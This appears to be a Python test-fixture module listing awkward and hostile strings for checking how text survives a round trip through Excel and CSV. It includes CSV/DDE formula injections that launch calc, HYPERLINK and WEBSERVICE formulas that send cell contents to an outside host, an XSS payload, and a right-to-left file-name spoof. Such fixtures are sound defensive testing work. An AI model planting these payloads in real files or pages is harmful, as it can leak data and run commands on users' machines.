"""Nasty texts, each with what it is on its way home: the same, or lawfully changed and how."""

from __future__ import annotations

from unicodedata import normalize

LONGEST = 32_767
"""More signs no cell holds."""

KEPT = {
    "formula": "=1+1",
    "formula with a link": '=HYPERLINK("http://192.0.2.1/?"&A1,"Klicka här")',
    "formula that fetches": '=WEBSERVICE("http://192.0.2.1/"&B2)',
    "formula that fetches a picture": '=IMAGE("http://192.0.2.1/x.png")',
    "question to another program": "=cmd|'/c calc'!A1",
    "question without equals": "cmd|'/c calc'!A1",
    "plus": "+46 13 12 34 56",
    "plus formula": "+1+cmd|'/c calc'!A1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "array formula": "{=SUM(A1:A9)}",
    "quoted for a CSV": 'Han sa "ja"; sedan "nej", alltid',
    "end of a CSV field": '";=1+1;"',
    "end of data in XML": "]]>",
    "entity": "&#x1; &amp; &lt;b&gt; &Aring;",
    "markup": "<script>alert('hej')</script><img src=x onerror=alert(1)>",
    "escape of Excel, written out": "_x000D_ och _x0041_ och _xD83D_",
    "escape, half": "_x00_ _x0041 x0041_",
    "link": "http://192.0.2.1/fil.exe",
    "link to a file": "file:///C:/Windows/System32/calc.exe",
    "link inside": "internal:Start!A1",
    "share": "\\\\192.0.2.1\\utdelat\\fil.xlsx",
    "mail": "mailto:nagon@example.se?subject=x",
    "right to left": "fil\u202excod.exe\u202c",
    "isolate": "a\u2066b\u2069c",
    "family of emoji": "Familjen \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 och \U0001f1f8\U0001f1ea",
    "old script": "ᚠᚢᚦ och 漢字 och العربية",
    "beyond the plane": "\U0001f600\U00020000\U0010fffd",
    "apostrophe first": "'text",
    "null": "NULL",
    "none": "None",
    "not a number": "nan",
    "truth": "TRUE",
    "sant": "SANT",
    "science": "1E5",
    "zeros": "00123",
    "a share of a year": "12/24",
    "date": "2026-03-01",
    "long number": "12345678901234567890",
    "decimal": "1,50",
    "per cent": "50 %",
    "error inside": "Se #REF! ovan",
    "number sign": "#trygghet",
    "format": "{0} {värde} %s %(x)s $1 \\1 {{}}",
    "page code": "&L&P&D&[Fil]",
    "brackets": "[Behov] [[x]] @[y]",
    "long word": "ä" * 2000,
    "many lines": "rad 1\nrad 2\n\nrad 4",
    "soft hyphen": "sam\u00adverkan",
    "replacement": "\ufffd",
    "line separator": "a\u2028b\u2029c",
}  # fmt: skip
"""Texts that come home sign by sign."""

CHANGED = {
    "tab first": ("\t=1+1", "=1+1"),
    "carriage return first": ("\r=1+1", "=1+1"),
    "spaces around": ("  text  ", "text"),
    "hard spaces around": ("\u00a0text\u00a0", "text"),
    "line break around": ("\ntext\n", "text"),
    "tab": ("före\tefter", "före efter"),
    "marks that nobody sees": ("a\u200bb\u2060c\ufeffd", "abcd"),
    "letters in two signs": (normalize("NFD", "Hållbarhet är åtgärd"), "Hållbarhet är åtgärd"),
    "letters with many signs": ("Z\u0351\u036ba\u030ag\u0334", normalize("NFC", "Z\u0351\u036ba\u030ag\u0334")),
    "the Ångström sign": ("\u212b", "Å"),
}
"""Texts with what they are when they come home: blanks around a text and marks that nobody sees are gone, tabs are spaces, letters are composed."""

TOLD = frozenset(CHANGED) - {"letters in two signs", "letters with many signs", "the Ångström sign"}
"""Of these all but the composing of letters are told, with before and after."""

LINE_ENDS = {"Windows": "rad 1\r\nrad 2", "old Mac": "rad 1\rrad 2"}
"""Lines as other programs end them; a cell ends its lines with a line feed alone."""

UNHOLDABLE = ("\x00", "\x01", "\x0b", "\x1b", "\x1f", "\ud800", "\udfff", "\ufffe", "\uffff")
"""Signs that no XML can hold, so that no workbook does: only an escape of Excel's (`_x001B_`) can stand for most."""
